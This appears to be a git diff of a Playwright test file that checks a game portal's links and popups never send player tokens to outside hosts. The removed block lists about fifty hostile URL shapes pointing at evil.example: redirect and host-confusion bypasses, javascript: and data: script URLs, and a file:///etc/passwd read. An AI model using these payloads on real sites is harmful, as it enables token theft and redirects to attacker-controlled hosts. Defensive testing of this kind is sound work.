@@ -1,78 +1,12 @@
 import type { Page, Request } from 'playwright'
 import { describe, expect } from 'vitest'
 import { chooseRole, createPlayer, type Player, test, type Visit } from '../set-up/browser.ts'
+import { hostileAddresses } from '../set-up/hostile-addresses.ts'
 import { settle } from '../set-up/settle.ts'
 import { shareOut } from '../set-up/share-out.ts'
 
-const placeholders = [
-  '{{token}}',
-  '{{platform_token}}',
-  '{{open_id}}',
-  '{{properties}}',
-  '{{fp_uid}}',
-  '{{token}}{{open_id}}',
-  '{{{token}}}',
-  '{{ token }}',
-  '%7B%7Btoken%7D%7D',
-  '{{platform_token}}&isInWebview=true',
-]
-
-/** Addresses that want what a placeholder says to get somewhere, or code to run. */
-const shapes: readonly ((placeholder: string) => string)[] = [
-  (p) => `https://evil.example/?a=${p}`,
-  (p) => `https://evil.example/${p}`,
-  (p) => `https://evil.example/#${p}`,
-  (p) => `https://evil.example?a=${p}&b=https://partner.example`,
-  (p) => `https://evil.example/partner.example/?a=${p}`,
-  (p) => `HTTPS://EVIL.EXAMPLE/?a=${p}`,
-  (p) => `http://evil.example/?a=${p}`,
-  (p) => `http://partner.example/?a=${p}`,
-  (p) => `https://partner.example:8443/?a=${p}`,
-  (p) => `https://partner.example./?a=${p}`,
-  (p) => `https://partner.example.evil.example/?a=${p}`,
-  (p) => `https://sub.partner.example/?a=${p}`,
-  (p) => `https://partner.example@evil.example/?a=${p}`,
-  (p) => `https://partner.example:443@evil.example/?a=${p}`,
-  (p) => `https://${p}@evil.example/`,
-  (p) => `https://partner.example%2eevil.example/?a=${p}`,
-  (p) => `https://partner.example%40evil.example/?a=${p}`,
-  (p) => `https://evil.example\\@partner.example/?a=${p}`,
-  (p) => `https://partner.example\\.evil.example/?a=${p}`,
-  (p) => `https://${p}.evil.example/`,
-  (p) => `https://${p}`,
-  (p) => `https:evil.example/?a=${p}`,
-  (p) => `https:/evil.example/?a=${p}`,
-  (p) => `https:///evil.example/?a=${p}`,
-  (p) => ` https://evil.example/?a=${p}`,
-  (p) => `https://evil.example/\n?a=${p}`,
-  (p) => `https://\tevil.example/?a=${p}`,
-  (p) => `https://p\u0430rtner.example/?a=${p}`,
-  (p) => `https://partner\u3002evil.example/?a=${p}`,
-  (p) => `https://[::1]:8443/?a=${p}`,
-  (p) => `https://0xc0a80001:8443/?a=${p}`,
-  (p) => `//evil.example/?a=${p}`,
-  (p) => `/\\evil.example/?a=${p}`,
-  (p) => `\\\\evil.example/?a=${p}`,
-  (p) => `/stateofsurvival//evil.example/?a=${p}`,
-  (p) => `javascript:location='https://evil.example/?a=${p}'`,
-  (p) => `JaVaScRiPt:alert('${p}')`,
-  (p) => `java\tscript:alert('${p}')`,
-  (p) => `data:text/html,<script>location='https://evil.example/?a=${p}'</script>`,
-  (p) => `blob:https://evil.example/${p}`,
-  (p) => `file:///etc/passwd?a=${p}`,
-  (p) => `ftp://evil.example/${p}`,
-  (p) => `ws://evil.example/${p}`,
-  (p) => `intent://evil.example/?a=${p}#Intent;scheme=https;end`,
-  (p) => `mailto:a@evil.example?body=${p}`,
-  (p) => `view-source:https://evil.example/?a=${p}`,
-  (p) => `about:blank#${p}`,
-  (p) => `store?next=https://evil.example/?a=${p}`,
-  (p) => `../../evil/${p}`,
-  (p) => `myinfo/active/${p}`,
-]
-const hostile = shapes.flatMap((shape) => placeholders.map(shape))
 /** In `npm test` a third of them, with every shape and every placeholder. */
-const pressed = shareOut(hostile, 0, 3)
+const pressed = shareOut(hostileAddresses, 0, 3)
 const trusted = 'https://partner.example/in?t={{platform_token}}&o={{open_id}}&p={{properties}}'
 
 const answer = (data: unknown) => ({ json: { code: 0, msg: '', data } })
@@ -185,7 +119,7 @@ const hear = (request: Request) =>
 
 describe.each(sources)('addresses of $name', (source) => {
   test('lead nowhere that hears of the player, 500 hostile ones, in a browser and in a webview', async ({ visit }) => {
-    expect(new Set(hostile).size).toBe(500)
+    expect(new Set(hostileAddresses).size).toBe(500)
     for (const query of ['', '?is_in_webview=1']) {
       const { page, captured, secrets } = await openWith(visit, source, [...pressed, 'store'], query)
       const schemes = await page
@@ -217,5 +151,100 @@ describe.each(sources)('addresses of $name', (source) => {
     expect([host, searchParams.get('t'), searchParams.get('o')]).toEqual(['partner.example', ticket, fpUid])
     expect(JSON.parse(searchParams.get('p') ?? '{}')).toMatchObject({ device_id: device })
     expect(request && hear(request)).not.toContain(token)
+  })
+})
+
+const toPopup = (link: string, index: number) => ({
+  ...{ pop_id: `${index}`, pop_title: `Popup ${index}`, pop_img_url: '/art/icons.svg#i-gift', pop_page_key: 'home' },
+  ...{ pop_url: link, pop_mobile_url: link, pop_online_start_time: '0', pop_online_end_time: '4102444800' },
+  ...{ pop_valid_type: 3, pop_weight: 1000 - index, pop_type: 1, pop_interval_time: 0, pop_show_count: 0 },
+  ...{ pop_position: 0, pop_game: 'ss_global' },
+})
+
+/** Opens home again and again with other popups each time, presses the one that opens, and captures where that leads. */
+async function openPopups(visit: Visit) {
+  visit.allow(/ERR_|Failed to load|net::/)
+  const player = await createPlayer()
+  await chooseRole(player)
+  const captured: Request[] = []
+  const secrets: Secrets = { known: [player.token, player.fpUid] }
+  const page = await visit.open('/404', { as: player, meetsPopups: true })
+  let shown: ReturnType<typeof toPopup>[] = []
+  let isPressed = false
+  await page.route(
+    () => true,
+    async (route) => {
+      const request = route.request()
+      const isOut = new URL(request.url()).origin !== visit.origin
+      if (!isOut && !(isPressed && request.isNavigationRequest())) return await route.fallback()
+      captured.push(request)
+      await route.fulfill({ status: 204 })
+    },
+  )
+  await page.route('**/pop/config_list', (route) =>
+    route.fulfill(answer({ pop_config_list: shown, pop_page_key_list: ['home'] })),
+  )
+  await page.route('**/index/link_hosts', (route) =>
+    route.fulfill(answer({ ticket_hosts: ['partner.example'], webview_hosts: ['inside.example'] })),
+  )
+  page.on('response', async (response) => {
+    if (response.url().endsWith('sdk/get_h5_token')) secrets.known.push(...(await response.json()).data)
+  })
+  const press = async (popups: typeof shown, query: string): Promise<string> => {
+    shown = popups
+    isPressed = false
+    await page.evaluate(() => localStorage.removeItem('guildhall.popups'))
+    await page.goto(`${visit.origin}/stateofsurvival${query}`)
+    const title = (await page.locator('.popup strong').textContent()) ?? ''
+    isPressed = true
+    const count = captured.length
+    await page.locator('.popup').getByRole('link').click()
+    await expect.poll(() => captured.length).toBeGreaterThan(count)
+    return title
+  }
+  return { captured, secrets, press }
+}
+
+describe('addresses of popups', () => {
+  /** One placeholder for each shape. */
+  const some = hostileAddresses.filter((_, index) => index % 10 === Math.floor(index / 10) % 10)
+
+  test.for([
+    ['in a browser', '', 3],
+    ['in a webview', '?is_in_webview=1', 7],
+  ] as const)('lead nowhere that hears of the player, %s', async ([, query, share], { visit }) => {
+    const { captured, secrets, press } = await openPopups(visit)
+    const popups = [...shareOut(some, 0, share), 'store'].map(toPopup)
+    // The heaviest that leads somewhere opens: those before it have been refused.
+    for (let next = 0; next < popups.length; ) {
+      const title = await press(popups.slice(next), query)
+      next = popups.findIndex(({ pop_title }) => pop_title === title) + 1
+    }
+    const abroad = captured.filter((request) => new URL(request.url()).origin !== visit.origin)
+    expect(abroad.length).toBeGreaterThan(1)
+    const leaks = abroad.filter((request) => secrets.known.some((secret) => hear(request).includes(secret)))
+    expect(leaks.map((request) => request.url())).toEqual([])
+    expect(captured.filter((request) => !/^https?:/.test(request.url()))).toEqual([])
+  })
+
+  test('stay what they are, whatever a stranger appends', async ({ visit }) => {
+    const { captured, secrets, press } = await openPopups(visit)
+    const shop = { ...toPopup('https://partner.example/in?t={{platform_token}}', 19), pop_type: 4 }
+    const sixth = Math.ceil(some.length / 6)
+    for (let first = 0; first < some.length; first += sixth) {
+      const text = some.slice(first, first + sixth).map((hostile, index) => `${hostile}&a${index}=${hostile}`)
+      const params = Buffer.from(`platform_token=x&t=x&referrer=x&${text.join('&')}`).toString('base64')
+      captured.length = 0
+      await press([shop], `?${new URLSearchParams({ priv_pop_type: '4', priv_pop_params: params })}`)
+      const [request] = captured
+      const { host, pathname, searchParams, hash } = new URL(request?.url() ?? '')
+      expect([host, pathname, hash]).toEqual(['partner.example', '/in', ''])
+      const [ticket = ''] = searchParams.getAll('t')
+      await expect.poll(() => secrets.known).toContain(ticket)
+      expect([searchParams.getAll('t'), searchParams.getAll('platform_token')]).toEqual([[ticket], [ticket]])
+      expect(searchParams.getAll('referrer')).toEqual([`${visit.origin}/stateofsurvival`])
+      expect([...searchParams.values()].filter((value) => value.includes(ticket))).toHaveLength(2)
+      expect(searchParams.size).toBeGreaterThan(10)
+    }
   })
 })
